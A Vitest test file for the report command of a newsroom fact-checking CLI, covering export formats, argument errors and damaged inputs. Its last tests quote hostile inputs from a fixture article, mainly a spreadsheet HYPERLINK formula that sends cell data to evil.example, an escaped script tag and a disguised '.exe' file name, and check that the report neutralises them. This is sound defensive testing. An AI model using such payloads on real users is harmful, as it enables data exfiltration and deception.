import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import { parseReportArgs, run } from '../../src/cli/commands/report'
import { findChromium } from '../../src/main/services/export'
import { findActiveContent } from '../core/report/html-safety'
import { sampleCase } from '../core/report/sample-case'
import { DEFAULT_CHECKLISTS, DEFAULT_REPORT_HEADER } from '../../src/core/case/case-settings'
import { saveProfile } from '../../src/main/services/profile'
import { DEFAULT_STATUSES, type CaseFile } from '../../src/shared/case'

const HOSTILE_ARTICLE = join(import.meta.dirname, '../fixtures/report/hostile-article.html')

let stdout: string
let stderr: string[]
let logged: string[]

beforeEach(() => {
  stdout = ''
  stderr = []
  logged = []
  vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    stdout += typeof chunk === 'string' ? chunk : Buffer.from(chunk).toString('utf8')
    return true
  })
  vi.spyOn(console, 'error').mockImplementation((...args: unknown[]) => void stderr.push(args.join(' ')))
  vi.spyOn(console, 'log').mockImplementation((...args: unknown[]) => void logged.push(args.join(' ')))
  // Settings (paper size) come from a private, empty data folder.
  process.env.FACTDESK_DATA_DIR = mkdtempSync(join(tmpdir(), 'factdesk-cli-data-'))
})
afterEach(() => {
  vi.restoreAllMocks()
  delete process.env.FACTDESK_DATA_DIR
})

/** A folder with the sample case saved as `story.docx.factdesk.json` (and the article beside it). */
function caseFolder(): { dir: string; casePath: string; articlePath: string } {
  const dir = mkdtempSync(join(tmpdir(), 'factdesk-cli-report-'))
  const articlePath = join(dir, 'story.docx')
  const casePath = `${articlePath}.factdesk.json`
  writeFileSync(casePath, `${JSON.stringify(sampleCase(), null, 2)}\n`)
  writeFileSync(articlePath, 'not really a docx: the saved case beside it is used instead')
  return { dir, casePath, articlePath }
}

describe('factdesk report', () => {
  test('a case to stdout as Markdown', async () => {
    const { casePath } = caseFolder()
    expect(await run([casePath, '--format', 'md'])).toBe(0)
    expect(stdout).toContain('# Verification report: City to cut bus fares as ridership recovers')
    expect(stdout).toContain('**Not ready to publish.**')
    expect(stderr).toEqual([])
  })

  test('an article with a saved case beside it reports that case', async () => {
    const { articlePath } = caseFolder()
    expect(await run([articlePath, '--format=json'])).toBe(0)
    const parsed = JSON.parse(stdout) as { format: string; case: { id: string }; summary: { openQueries: number } }
    expect(parsed.format).toBe('factdesk-report')
    expect(parsed.case.id).toBe('case-riverton-fares')
    expect(parsed.summary.openQueries).toBe(1)
  })

  test('--out writes the file and prints its path', async () => {
    const { dir, casePath } = caseFolder()
    const out = join(dir, 'out.csv')
    expect(await run([casePath, '--format', 'csv', '--out', out])).toBe(0)
    expect(logged).toEqual([out])
    expect(stdout).toBe('')
    expect(readFileSync(out, 'utf8').startsWith('\ufeff"number"')).toBe(true)
  })

  test('ClaimReview and HTML go to stdout too', async () => {
    const { casePath } = caseFolder()
    expect(await run([casePath, '--format', 'claimreview'])).toBe(0)
    expect((JSON.parse(stdout) as unknown[]).length).toBe(5)
    stdout = ''
    expect(await run([casePath, '--format', 'html'])).toBe(0)
    expect(stdout.startsWith('<!doctype html>')).toBe(true)
  })

  // An article nobody has rated printed '[]' and nothing else, which reads as a failure.
  test('an empty ClaimReview list says why on stderr, printed or written', async () => {
    const { dir, casePath } = caseFolder()
    const unrated = { ...sampleCase(), ratingMap: [] }
    writeFileSync(casePath, `${JSON.stringify(unrated, null, 2)}\n`)
    expect(await run([casePath, '--format', 'claimreview'])).toBe(0)
    expect(stdout).toBe('[]\n')
    expect(stderr).toEqual([
      "factdesk report: the ClaimReview list is empty: no item in the draft has a status that publishes a rating (each status's rating is set in Settings)"
    ])
    stderr = []
    expect(await run([casePath, '--format', 'claimreview', '--out', join(dir, 'reviews.jsonld')])).toBe(0)
    expect(stderr).toHaveLength(1)
    stderr = []
    writeFileSync(casePath, `${JSON.stringify(sampleCase(), null, 2)}\n`)
    expect(await run([casePath, '--format', 'claimreview'])).toBe(0)
    expect(stderr).toEqual([])
  })

  test.skipIf(!findChromium())(
    'PDF without --out goes beside the input and prints the path',
    async () => {
      const { dir, casePath } = caseFolder()
      expect(await run([casePath, '--format', 'pdf', '--paper', 'Letter'])).toBe(0)
      const expected = join(dir, 'story.report.pdf')
      expect(logged).toEqual([expected])
      expect(readFileSync(expected).subarray(0, 5).toString('latin1')).toBe('%PDF-')
    },
    60_000
  )

  test.each([
    [
      [],
      'factdesk report: no case or article given; usage: factdesk report FILE_OR_CASE --format html|pdf|md|csv|json|claimreview [--out PATH] [--paper A4|Letter] [--appendix] [--case CASE]'
    ],
    [
      ['x.factdesk.json'],
      'factdesk report: --format is required; usage: factdesk report FILE_OR_CASE --format html|pdf|md|csv|json|claimreview [--out PATH] [--paper A4|Letter] [--appendix] [--case CASE]'
    ],
    [
      ['x.factdesk.json', '--format', 'docx'],
      'factdesk report: unknown format "docx"; use one of html, pdf, md, csv, json, claimreview'
    ],
    [
      ['x.factdesk.json', '--format'],
      'factdesk report: --format needs a value; usage: factdesk report FILE_OR_CASE --format html|pdf|md|csv|json|claimreview [--out PATH] [--paper A4|Letter] [--appendix] [--case CASE]'
    ],
    [
      ['x.factdesk.json', '--format', 'md', '--paper', 'A3'],
      'factdesk report: unknown paper size "A3"; use A4 or Letter'
    ],
    [
      ['a', 'b', '--format', 'md'],
      'factdesk report: one case or article at a time (got 2); usage: factdesk report FILE_OR_CASE --format html|pdf|md|csv|json|claimreview [--out PATH] [--paper A4|Letter] [--appendix] [--case CASE]'
    ],
    [
      ['x', '--colour', 'red'],
      'factdesk report: unknown option --colour; usage: factdesk report FILE_OR_CASE --format html|pdf|md|csv|json|claimreview [--out PATH] [--paper A4|Letter] [--appendix] [--case CASE]'
    ],
    [['/no/such/story.factdesk.json', '--format', 'md'], 'factdesk report: /no/such/story.factdesk.json does not exist']
  ])('bad input %j: exit 1 and one line', async (args, message) => {
    expect(await run(args)).toBe(1)
    expect(stderr).toEqual([message])
    expect(stdout).toBe('')
  })

  test('a damaged case: exit 1, one line naming the file', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'factdesk-cli-report-'))
    const casePath = join(dir, 'broken.factdesk.json')
    writeFileSync(casePath, '{ "schemaVersion": 1, ')
    expect(await run([casePath, '--format', 'md'])).toBe(1)
    expect(stderr).toHaveLength(1)
    expect(stderr[0]).toMatch(/^factdesk report: broken\.factdesk\.json is damaged/)
  })

  test('an unwritable --out: exit 1, one line, nothing written', async () => {
    const { dir, casePath } = caseFolder()
    const out = join(dir, 'missing-folder', 'r.md')
    expect(await run([casePath, '--format', 'md', '--out', out])).toBe(1)
    expect(stderr).toEqual([`factdesk report: Could not write the report to ${out}: its folder does not exist.`])
    expect(existsSync(out)).toBe(false)
  })

  test('an article without a case is reported from the engine: every suggestion Unchecked, nothing saved', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'factdesk-cli-report-'))
    const articlePath = join(dir, 'fares.txt')
    writeFileSync(
      articlePath,
      'City to cut bus fares\n\nauthor: Dana Whitlock\n\nRiverton will cut single bus fares from £2.40 to £1.80 on 1 March 2024, the transport committee said.\n\n“We promised cheaper buses,” said Councillor Amara Osei.\n'
    )
    expect(await run([articlePath, '--format', 'json'])).toBe(0)
    const parsed = JSON.parse(stdout) as {
      case: { items: Array<{ status: string; state: string }>; id: string }
      summary: { verdict: { ready: boolean } }
    }
    expect(parsed.case.items.length).toBeGreaterThan(0)
    expect(parsed.case.items.every((item) => item.status === 'unchecked' && item.state === 'suggested')).toBe(true)
    expect(parsed.case.id).toMatch(/^unsaved-[0-9a-f]{12}$/)
    expect(parsed.summary.verdict.ready).toBe(false)
    expect(existsSync(`${articlePath}.factdesk.json`)).toBe(false)
  })
})

describe('the newsroom profile in the CLI', () => {
  const ARTICLE =
    'City to cut bus fares\n\nRiverton will cut single bus fares from £2.40 to £1.80 on 1 March 2024, the transport committee said.\n'

  test('an article without a case is reported with the profile’s header, statuses and checklists', async () => {
    const dataDir = process.env.FACTDESK_DATA_DIR ?? ''
    const profile = await saveProfile(
      dataDir,
      {
        statuses: DEFAULT_STATUSES.map((s) => (s.id === 'verified' ? { ...s, label: 'Confirmed' } : s)),
        ratingMap: [],
        checklists: { ...DEFAULT_CHECKLISTS, claim: [{ key: 'doc', label: 'Document in hand', hint: '' }] },
        reportHeader: { ...DEFAULT_REPORT_HEADER, newsroom: 'The Riverton Echo', preparedFor: 'The night editor' }
      },
      new Date()
    )
    if (!profile.ok) throw new Error(profile.error.message)
    const articlePath = join(mkdtempSync(join(tmpdir(), 'factdesk-cli-report-')), 'fares.txt')
    writeFileSync(articlePath, ARTICLE)
    expect(await run([articlePath, '--format', 'md'])).toBe(0)
    expect(stdout.split('\n').slice(0, 3)).toEqual([
      '**The Riverton Echo**',
      '',
      '# Verification report: City to cut bus fares'
    ])
    expect(stdout).toContain('- **Prepared for:** The night editor')
    stdout = ''
    expect(await run([articlePath, '--format', 'json'])).toBe(0)
    const parsed = JSON.parse(stdout) as { case: CaseFile }
    expect(parsed.case.statuses.find((s) => s.id === 'verified')?.label).toBe('Confirmed')
    expect(parsed.case.checklists?.claim).toEqual([{ key: 'doc', label: 'Document in hand', hint: '' }])
  })

  test('a damaged profile: the built-in settings, and one line on stderr saying why', async () => {
    writeFileSync(join(process.env.FACTDESK_DATA_DIR ?? '', 'profile.json'), 'not json')
    const articlePath = join(mkdtempSync(join(tmpdir(), 'factdesk-cli-report-')), 'fares.txt')
    writeFileSync(articlePath, ARTICLE)
    expect(await run([articlePath, '--format', 'md'])).toBe(0)
    expect(stdout).toMatch(/^# Verification report: City to cut bus fares/)
    expect(stderr.filter((line) => /newsroom profile .* is not valid JSON/.test(line))).toHaveLength(1)
  })
})

describe('a hostile HTML article, through the real importer and engine', () => {
  test('HTML report: no script, no handler, no load; the words are still there', async () => {
    expect(await run([HOSTILE_ARTICLE, '--format', 'html'])).toBe(0)
    expect(findActiveContent(stdout).problems).toEqual([])
    expect(stdout).toContain('&lt;/style&gt;&lt;script&gt;x()&lt;/script&gt;')
    expect(stdout).toContain('Invoice⟦U+202E⟧gpj.exe')
    expect(stdout).not.toContain('evil.example/pixel.png')
  })

  test('CSV report: the formula in the article is shown, never evaluated', async () => {
    expect(await run([HOSTILE_ARTICLE, '--format', 'csv'])).toBe(0)
    expect(stdout).toContain('"\'=HYPERLINK(""https://evil.example/?""&A1) cost 4,000 jobs in 2021, officials said."')
    expect(stdout).not.toMatch(/(^|,|\r\n)"[=+\-@]/)
  })
})

describe('parseReportArgs', () => {
  test('accepts --name value and --name=value in any order', () => {
    expect(parseReportArgs(['--out=r.html', 'story.docx', '--format', 'html'])).toEqual({
      input: 'story.docx',
      format: 'html',
      out: 'r.html',
      paper: null,
      appendix: false,
      casePath: null
    })
    expect(parseReportArgs(['story.docx', '--appendix', '--case=s.factdesk.json', '--format', 'md'])).toMatchObject({
      appendix: true,
      casePath: 's.factdesk.json'
    })
  })
})
